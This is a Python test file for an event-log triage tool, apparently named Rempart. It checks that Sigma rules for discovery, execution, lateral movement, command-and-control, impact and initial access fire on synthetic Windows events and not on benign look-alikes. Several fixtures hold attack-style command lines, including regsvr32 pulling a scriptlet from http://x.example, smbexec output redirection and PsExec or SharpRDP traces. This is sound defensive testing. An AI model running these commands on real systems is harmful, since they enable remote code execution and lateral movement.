"""Rempart's third-pass rules (`rempart_a_*.yml`, issue 22 point 6): discovery, execution,
lateral movement, command and control, impact and initial access. Each fires on its behaviour
and not on the look-alike written beside it.

Events are `evtx_dump` JSON, as in `test_rempart_rules.py`, so they go through the same
normalisation as `.evtx` files.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.sigma import winevents
from tests.sigma.winevents import MSSQL, PS, PS_CLASSIC, SECURITY, SYSMON, SYSTEM

from rempart.app.triage import triage
from rempart.sigma.attack_tactics import tactics_of
from rempart.sigma.engine import load_rules
from rempart.sigma.levels import builtin_rules_dir

DCOM = ("System", "Microsoft-Windows-DistributedCOM")
PCA = (
    "Microsoft-Windows-Application-Experience/Program-Compatibility-Assistant",
    "Microsoft-Windows-Application-Experience",
)
RDPCORE = (
    "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
    "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
)
BITLOCKER = ("Microsoft-Windows-BitLocker/BitLocker Management", "Microsoft-Windows-BitLocker-API")
RULE = "3c9e7a10-5b2d-4f8e-a1c4-7d2e9b0f51"


def ev(
    where: tuple[str, str],
    code: int,
    data: dict[str, Any],
    minute: int = 0,
    second: int = 0,
    rid: int = 1,
) -> dict[str, Any]:
    """An event on this file's workstation."""
    return winevents.ev(where, code, data, minute, second, rid, computer="pc1.chu.lan")


CMD = r"C:\Windows\System32\cmd.exe"
PWSH = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"


def proc(image: str, cmd: str, parent: str, parent_cmd: str = "") -> dict[str, Any]:
    """A Sysmon process creation (1)."""
    data = {"Image": image, "CommandLine": cmd, "ParentImage": parent}
    if parent_cmd:
        data["ParentCommandLine"] = parent_cmd
    return ev(SYSMON, 1, data)


def net(
    image: str, port: int, initiated: bool, remote: str = "10.0.0.9", pid: int = 900
) -> dict[str, Any]:
    """A Sysmon network connection (3) between this machine (10.0.0.5) and `remote`."""
    return ev(
        SYSMON,
        3,
        {
            "ProcessId": str(pid),
            "Image": image,
            "Protocol": "tcp",
            "Initiated": "true" if initiated else "false",
            "SourceIp": "10.0.0.5",
            "SourcePort": "50000",
            "DestinationIp": remote,
            "DestinationPort": str(port),
        },
    )


def pipe(name: str, image: str = "System") -> dict[str, Any]:
    """A Sysmon pipe connection (18); `System` means the SMB server, for another machine."""
    return ev(SYSMON, 18, {"EventType": "ConnectPipe", "PipeName": name, "Image": image})


def share(target: str, access: str = "%%4416\r\n\t\t%%4417\r\n") -> dict[str, Any]:
    """A detailed file share access (5145) on IPC$ or C$."""
    name = r"\\*\IPC$" if "\\" not in target else r"\\*\C$"
    return ev(
        SECURITY, 5145, {"ShareName": name, "RelativeTargetName": target, "AccessList": access}
    )


def ps(text: str) -> dict[str, Any]:
    return ev(PS, 4104, {"ScriptBlockText": text, "ScriptBlockId": "x"})


def access(source: str, target: str, i: int, grant: str = "0x1410") -> dict[str, Any]:
    return ev(
        SYSMON,
        10,
        {"SourceImage": source, "TargetImage": target, "GrantedAccess": grant},
        second=i % 60,
        rid=i + 1,
    )


def logon(
    logon_type: int, address: str, sid: str = "S-1-5-21-1-2-3-1104", package: str = "NTLM"
) -> dict[str, Any]:
    return ev(
        SECURITY,
        4624,
        {
            "TargetUserSid": sid,
            "TargetUserName": "bob",
            "LogonType": str(logon_type),
            "AuthenticationPackageName": package,
            "IpAddress": address,
        },
    )


def audit(action: str, principal: str, statement: str) -> dict[str, Any]:
    text = (
        f"audit_schema_version:1\naction_id:{action:<4}\nsucceeded:false\nclass_type:LX\n"
        f"server_principal_name:{principal}\nstatement:{statement}\n"
    )
    return {"Data": {"#text": text}}


@pytest.fixture(scope="module")
def rule_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built-in rules converted once for the module."""
    return tmp_path_factory.mktemp("rules")


def _hits(tmp_path: Path, events: list[dict[str, Any]], cache: Path) -> set[str]:
    path = tmp_path / "events.json"
    path.write_text("\n".join(json.dumps(e) for e in events) + "\n", encoding="utf-8")
    res = triage([path], None, "informational", cache_dir=cache)
    assert [f.rejected for f in res.files] == [0]
    return {h.rule_id for h in res.hits}


MMC20 = "{49B2791A-B1AE-4C90-9B8E-E860BA07F889}"
DFSR_CONF = r"HKLM\System\CurrentControlSet\Services\DFSR\Parameters\Config File"
NTDS_EXT = r"HKLM\System\CurrentControlSet\Services\NTDS\DirectoryServiceExtPt"
RUN_MRU = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a"

# rule id suffix -> (events it must fire on, look-alike events it must not fire on)
CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    "01": (  # a bare shell from a service host, against one from Explorer or with a command
        [proc(CMD, r"C:\Windows\system32\cmd.exe", SVCHOST, "svchost.exe -k DcomLaunch")],
        [
            proc(CMD, r"C:\Windows\system32\cmd.exe", r"C:\Windows\explorer.exe"),
            proc(CMD, r"cmd.exe /c echo ok", SVCHOST),
        ],
    ),
    "02": (  # a bare shell from a program in ProgramData, against an installer's shell command
        [proc(CMD, "cmd", r"C:\ProgramData\upd\m.exe")],
        [proc(CMD, r"cmd /c del setup.tmp", r"C:\ProgramData\upd\setup.exe")],
    ),
    "03": (  # a browser starting cmd, against a native messaging host
        [proc(CMD, "cmd.exe", r"C:\Program Files\Internet Explorer\iexplore.exe")],
        [
            proc(
                CMD,
                r'cmd.exe /d /c "host.exe" chrome-extension://abc/',
                r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            )
        ],
    ),
    "04": (  # a scriptlet from a URL through a renamed regsvr32, against a local registration
        [
            proc(
                r"C:\ProgramData\jabber.exe", r"jabber.exe /u /s /i:http://x.example/a .\j.dll", CMD
            )
        ],
        [proc(r"C:\Windows\System32\regsvr32.exe", r"regsvr32.exe /s C:\App\ocx.dll", CMD)],
    ),
    "05": (  # a .cpl opened from Downloads, against one of Windows' own items
        [
            ev(
                PCA,
                17,
                {
                    "ExePath": r"C:\Users\bob\Downloads\Invoice.cpl",
                    "ResolverName": "ControlPanelApplet",
                },
            )
        ],
        [
            ev(
                PCA,
                17,
                {"ExePath": r"C:\Windows\System32\desk.cpl", "ResolverName": "ControlPanelApplet"},
            )
        ],
    ),
    "06": (  # smbexec's output redirection, against a copy to a real server's share
        [
            proc(
                CMD,
                r"cmd.exe /Q /c C:\Windows\TEMP\execute.bat",
                CMD,
                r"cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > "
                r"C:\Windows\TEMP\execute.bat",
            )
        ],
        [proc(CMD, r"cmd.exe /c copy out.txt \\srv1\C$\logs\out.txt", r"C:\Windows\explorer.exe")],
    ),
    "07": (  # a named-pipe server in a script, against a script reading a file stream
        [ps("$p = New-Object System.IO.Pipes.NamedPipeServerStream($Pipe, 'InOut')")],
        [ps("$f = New-Object System.IO.FileStream($Path, 'Open')")],
    ),
    "08": (  # svcctl written over SMB / connected by the SMB server, against read-only and srvsvc
        [share("svcctl"), pipe(r"\svcctl")],
        [share("svcctl", "%%4416\r\n"), pipe(r"\srvsvc")],
    ),
    "09": (  # a service start time-out, against a service that started
        [ev(SYSTEM, 7009, {"param1": "30000", "param2": "gdKhvCScykzNFZKd"})],
        [ev(SYSTEM, 7036, {"param1": "Print Spooler", "param2": "running"})],
    ),
    "20": (  # srvsvc opened by another machine, against the Task Scheduler pipe
        [pipe(r"\srvsvc"), share("samr", "%%4416\r\n")],
        [pipe(r"\atsvc")],
    ),
    "20b": (  # the Remote Registry pipe opened from afar, against the Task Scheduler's
        [pipe(r"\winreg")],
        [pipe(r"\atsvc")],
    ),
    "22": (  # one program opening 20 programs in a few seconds, against Task Manager doing so
        [access(r"D:\m.exe", rf"C:\Windows\System32\p{i}.exe", i) for i in range(20)],
        [access(r"C:\Windows\System32\Taskmgr.exe", rf"C:\Windows\p{i}.exe", i) for i in range(20)]
        + [access(r"D:\m.exe", rf"C:\Windows\System32\p{i}.exe", i) for i in range(5)],
    ),
    "23": (  # the audit policy and firewall read, against a firewall rule added
        [
            proc(r"C:\Windows\System32\auditpol.exe", "auditpol.exe /get /category:*", CMD),
            proc(r"C:\Windows\System32\netsh.exe", "netsh  a show allprofiles", CMD),
        ],
        [
            proc(
                r"C:\Windows\System32\netsh.exe",
                "netsh advfirewall firewall add rule name=x dir=in action=allow",
                CMD,
            )
        ],
    ),
    "24": (  # drivers\etc read through C$, against another folder
        [share(r"WINDOWS\SYSTEM32\DRIVERS\ETC", "%%4416\r\n")],
        [share(r"Users\bob\Documents", "%%4416\r\n")],
    ),
    "25": (  # the ActiveDirectory provider started, against the FileSystem provider
        [
            ev(
                PS_CLASSIC,
                600,
                {
                    "Data": {
                        "#text": [
                            "ActiveDirectory",
                            "Started",
                            "\tProviderName=ActiveDirectory\r\n",
                        ]
                    }
                },
            )
        ],
        [
            ev(
                PS_CLASSIC,
                600,
                {"Data": {"#text": ["FileSystem", "Started", "\tProviderName=FileSystem\r\n"]}},
            )
        ],
    ),
    "26": (  # an anonymous network logon, against a user's network logon
        [logon(3, "10.0.0.9", sid="S-1-5-7")],
        [logon(3, "10.0.0.9")],
    ),
    "28": (  # one user reading 25 directory objects, against a machine account doing so
        [
            ev(
                SECURITY,
                4662,
                {"SubjectUserName": "bob", "ObjectServer": "DS", "ObjectName": f"%{{{i}}}"},
                second=i,
                rid=i + 1,
            )
            for i in range(25)
        ],
        [
            ev(
                SECURITY,
                4662,
                {"SubjectUserName": "DC1$", "ObjectServer": "DS", "ObjectName": f"%{{{i}}}"},
                second=i,
                rid=i + 1,
            )
            for i in range(25)
        ],
    ),
    "29": (  # PowerShell to LDAP, against PowerShell to a web server
        [net(PWSH, 389, True)],
        [net(PWSH, 443, True)],
    ),
    "2b": (  # the SMB client reaching 6 machines in a minute, against 2 machines
        [net("System", 445, True, remote=f"10.0.0.{20 + i}", pid=4) for i in range(6)],
        [net("System", 445, True, remote=f"10.0.0.{20 + i % 2}", pid=4) for i in range(6)],
    ),
    "2c": (  # setspn listing SPNs, against setspn adding one
        [proc(r"C:\Windows\System32\setspn.exe", "setspn  -T chu -Q */*", CMD)],
        [proc(r"C:\Windows\System32\setspn.exe", r"setspn -S http/web1 chu\svc_web", CMD)],
    ),
    "40": (  # MMC20 activation refused from another machine, against a local broker refusal
        [
            ev(
                DCOM,
                10016,
                {
                    "param1": "application-specific",
                    "param2": "Remote",
                    "param3": "Launch",
                    "param4": MMC20,
                    "param5": MMC20,
                },
            )
        ],
        [
            ev(
                DCOM,
                10016,
                {
                    "param1": "application-specific",
                    "param2": "Local",
                    "param3": "Launch",
                    "param4": "Windows.SecurityCenter.WscBrokerManager",
                },
            )
        ],
    ),
    "41": (  # Explorer taking an inbound connection, against Explorer going out
        [net(r"C:\Windows\explorer.exe", 58172, False)],
        [net(r"C:\Windows\explorer.exe", 443, True)],
    ),
    "42": (  # mshta as a COM server, against an HTA opened by a user
        [
            proc(
                r"C:\Windows\System32\mshta.exe",
                r"C:\Windows\System32\mshta.exe -Embedding",
                SVCHOST,
            )
        ],
        [
            proc(
                r"C:\Windows\System32\mshta.exe",
                r'mshta.exe "C:\Apps\menu.hta"',
                r"C:\Windows\explorer.exe",
            )
        ],
    ),
    "43": (  # a program run from \\tsclient, against one from a file server
        [proc(r"\\tsclient\c\temp\a.exe", "a.exe", r"C:\Windows\explorer.exe")],
        [proc(r"\\files\apps\a.exe", r'"\\files\apps\a.exe"', r"C:\Windows\explorer.exe")],
    ),
    "43b": (  # the same typed into the Run box, against a local program typed there
        [ev(SYSMON, 13, {"TargetObject": RUN_MRU, "Details": r"\\tsclient\c\temp\a.exe\1"})],
        [ev(SYSMON, 13, {"TargetObject": RUN_MRU, "Details": r"C:\Windows\notepad.exe\1"})],
    ),
    "44": (  # mstsc writing into Startup, against its own .rdp file
        [
            ev(
                SYSMON,
                11,
                {
                    "Image": r"C:\Windows\system32\mstsc.exe",
                    "TargetFilename": r"C:\Users\adm\AppData\Roaming\Microsoft\Windows"
                    r"\Start Menu\Programs\Startup\cmd.exe",
                },
            )
        ],
        [
            ev(
                SYSMON,
                11,
                {
                    "Image": r"C:\Windows\system32\mstsc.exe",
                    "TargetFilename": r"C:\Users\adm\Documents\Default.rdp",
                },
            )
        ],
    ),
    "45": (  # a tool in ProgramData loading the RDP client, against mstsc
        [
            ev(
                SYSMON,
                7,
                {
                    "Image": r"C:\ProgramData\USOShared\SharpRDP.exe",
                    "ImageLoaded": r"C:\Windows\SysWOW64\mstscax.dll",
                },
            )
        ],
        [
            ev(
                SYSMON,
                7,
                {
                    "Image": r"C:\Windows\System32\mstsc.exe",
                    "ImageLoaded": r"C:\Windows\System32\mstscax.dll",
                },
            )
        ],
    ),
    "46": (  # System writing an executable (copied over SMB), against a document
        [
            ev(
                SYSMON,
                11,
                {"ProcessId": "4", "Image": "System", "TargetFilename": r"C:\Windows\PSEXESVC.exe"},
            )
        ],
        [
            ev(
                SYSMON,
                11,
                {
                    "ProcessId": "4",
                    "Image": "System",
                    "TargetFilename": r"D:\Partage\compte-rendu.docx",
                },
            )
        ],
    ),
    "47": (  # an RDP connection from another machine, against one from the loopback
        [
            ev(RDPCORE, 131, {"ConnType": "TCP", "ClientIP": "10.0.0.16:52202"}),
            logon(10, "10.0.0.16"),
            net(SVCHOST, 3389, False, remote="10.0.0.16"),
        ],
        [ev(RDPCORE, 131, {"ConnType": "TCP", "ClientIP": "127.0.0.1:52202"}), logon(10, "::1")],
    ),
    "48": (  # a random-named pipe over SMB, against Windows' own and local pipes
        [pipe(r"\46a676ab7f179e511e30dd2dc41bd388")],
        [pipe(r"\wkssvc"), pipe(r"\46a676ab7f179e511e30dd2dc41bd388", image=PWSH)],
    ),
    "49": (  # PowerShell to another machine's port 135, against to its own
        [net(PWSH, 135, True)],
        [net(PWSH, 135, True, remote="127.0.0.1")],
    ),
    "4a": (  # the OpenSSH server added, against the client
        [ps("Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0")],
        [ps("Add-WindowsCapability -Online -Name OpenSSH.Client~~~~0.0.1.0")],
    ),
    "4e": (  # LSASS loading a DLL from a share / a service pointed at one, against local ones
        [
            ev(
                SYSMON,
                7,
                {"Image": r"C:\Windows\System32\lsass.exe", "ImageLoaded": r"\\10.0.0.9\s\x.dll"},
            ),
            ev(SYSMON, 13, {"TargetObject": NTDS_EXT, "Details": r"\\10.0.0.9\s\x.dll"}),
        ],
        [
            ev(
                SYSMON,
                7,
                {"Image": r"C:\Windows\System32\lsass.exe", "ImageLoaded": r"C:\Windows\x.dll"},
            ),
            ev(SYSMON, 13, {"TargetObject": NTDS_EXT, "Details": r"C:\Windows\x.dll"}),
            ev(
                SYSMON,
                13,
                {"TargetObject": DFSR_CONF, "Details": r"\\?\C:\System Volume Information\x.dll"},
            ),
        ],
    ),
    "4b": (  # an RDP logon from the loopback (a tunnel), against one from another machine
        [logon(10, "127.0.0.1")],
        [logon(10, "10.0.0.16")],
    ),
    "4c": (  # IIS connecting to RDP, against IIS connecting to SQL Server
        [net(r"C:\Windows\System32\inetsrv\w3wp.exe", 3389, True, remote="127.0.0.1")],
        [net(r"C:\Windows\System32\inetsrv\w3wp.exe", 1433, True)],
    ),
    "4d": (  # PowerShell accepting a connection, against PowerShell connecting out
        [net(PWSH, 38208, False)],
        [net(PWSH, 443, True)],
    ),
    "60": (  # BitLocker encryption started, against BitLocker's routine key backup
        [ev(BITLOCKER, 768, {"VolumeMountPoint": "C:"})],
        [ev(BITLOCKER, 784, {"VolumeMountPoint": "C:"})],
    ),
    "61": (  # an RDP logon refused by an account restriction, against a wrong password
        [
            ev(
                SECURITY,
                4625,
                {
                    "Status": "0xc000006e",
                    "SubStatus": "0x0",
                    "LogonType": "10",
                    "IpAddress": "10.0.0.9",
                },
            )
        ],
        [
            ev(
                SECURITY,
                4625,
                {
                    "Status": "0xc000006d",
                    "SubStatus": "0xc000006a",
                    "LogonType": "10",
                    "IpAddress": "10.0.0.9",
                },
            )
        ],
    ),
    "62": (  # sa refused, against another login refused
        [ev(MSSQL, 33205, audit("LGIF", "sa", "Login failed for user 'sa'. Reason: x"))],
        [ev(MSSQL, 33205, audit("LGIF", "app", "Login failed for user 'app'. Reason: x"))],
    ),
}


@pytest.mark.parametrize("suffix", sorted(CASES))
def test_rule_fires_on_its_behaviour_only(tmp_path: Path, rule_cache: Path, suffix: str) -> None:
    positive, negative = CASES[suffix]
    rule = RULE + suffix[:2]  # "43b": a second case of rule 43
    assert rule in _hits(tmp_path, positive, rule_cache)
    assert rule not in _hits(tmp_path, negative, rule_cache)


def test_every_third_pass_rule_is_tested_and_tagged() -> None:
    """Each rule of the `rempart_a_` files that speaks for itself has a case above, and its
    ATT&CK techniques belong (in MITRE's matrix) to one of the tactics it is tagged with."""
    rs = load_rules([builtin_rules_dir()])
    bases = {rid for c in rs.correlations for rid in c.rule_ids}
    ours = [r for r in [*rs.rules, *rs.correlations] if r.rule_id.startswith(RULE)]
    assert len(ours) >= 30
    for r in ours:
        if r.rule_id in bases:
            continue
        assert r.rule_id[len(RULE) :] in CASES, r.title
        tags = {t.lower() for t in r.tags}
        tactics = {t.removeprefix("attack.") for t in tags if not t.startswith("attack.t")}
        techniques = [t.removeprefix("attack.") for t in tags if t.startswith("attack.t")]
        assert techniques, r.title
        for t in techniques:
            assert set(tactics_of(t)) & tactics, (r.title, t)
